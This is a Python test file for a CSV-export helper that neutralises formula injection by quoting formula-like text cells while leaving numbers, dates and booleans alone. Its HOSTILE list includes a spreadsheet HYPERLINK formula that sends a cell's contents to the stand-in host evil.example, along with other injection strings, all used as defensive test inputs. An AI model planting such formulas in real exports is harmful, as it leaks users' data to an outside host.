"""CSV cells a spreadsheet will not run: formula-like text gets a quote, numbers stay numbers."""

import csv
import io

import numpy as np
import pandas as pd
import pytest

from segcampaign.csvsafe import neutralise, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"click")', "=1+1", "+1", "-12", "@SUM(A1:A9)", "\tx", "\rx"]


def rows_written(frame):
    buffer = io.StringIO(newline="")
    write_csv(frame, buffer)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_like_a_formula_is_written_after_a_single_quote(value):
    header, row = rows_written(pd.DataFrame({"customer_id": [value]}))

    assert header == ["customer_id"]
    assert row == ["'" + value.replace("\r", "\n")]


@pytest.mark.parametrize("value, written", [("x\r=cmd", "x\n=cmd"), ("a\r\nb", "a\nb"), ("\r=cmd", "'\n=cmd")])
def test_a_carriage_return_inside_text_cannot_start_a_row_of_its_own(value, written):
    buffer = io.StringIO(newline="")
    write_csv(pd.DataFrame({"name": [value], "n": [1]}), buffer)

    assert "\r" not in buffer.getvalue()
    assert rows_written(pd.DataFrame({"name": [value], "n": [1]})) == [["name", "n"], [written, "1"]]


def test_numbers_in_numeric_columns_stay_numbers():
    frame = pd.DataFrame({"monetary": [-12.5, 3.0], "frequency": np.array([-1, 2], dtype="int64")})

    assert rows_written(frame)[1:] == [["-12.5", "-1"], ["3.0", "2"]]
    assert neutralise(frame) is frame


def test_only_the_text_of_a_mixed_column_is_quoted():
    frame = pd.DataFrame({"value": pd.Series(["-12", -12, None, "=cmd", 2.5, "fine"], dtype=object)})

    assert neutralise(frame)["value"].tolist() == ["'-12", -12, None, "'=cmd", 2.5, "fine"]


def test_ordinary_text_missing_values_booleans_and_dates_are_left_as_they_are():
    frame = pd.DataFrame(
        {
            "name": pd.Series(["Zoë", None, "a=b", "x-1"], dtype="str"),
            "segment": pd.Categorical(["Champions", "=evil", "Champions", "At risk"]),
            "consent": [True, False, True, False],
            "at": pd.to_datetime(["2026-01-01"] * 4, utc=True),
        }
    )

    out = neutralise(frame)

    assert out["name"].tolist()[::2] == ["Zoë", "a=b"] and pd.isna(out["name"][1]) and out["name"][3] == "x-1"
    assert out["segment"].tolist() == ["Champions", "'=evil", "Champions", "At risk"]
    assert out["consent"].dtype == bool and out["at"].equals(frame["at"])
    assert frame["segment"].tolist()[1] == "=evil"  # the caller's frame is not changed


def test_columns_are_found_by_position_so_repeated_or_numbered_names_work():
    frame = pd.DataFrame([["=a", "=b", 1]], columns=["x", "x", 0])

    assert neutralise(frame).values.tolist() == [["'=a", "'=b", 1]]
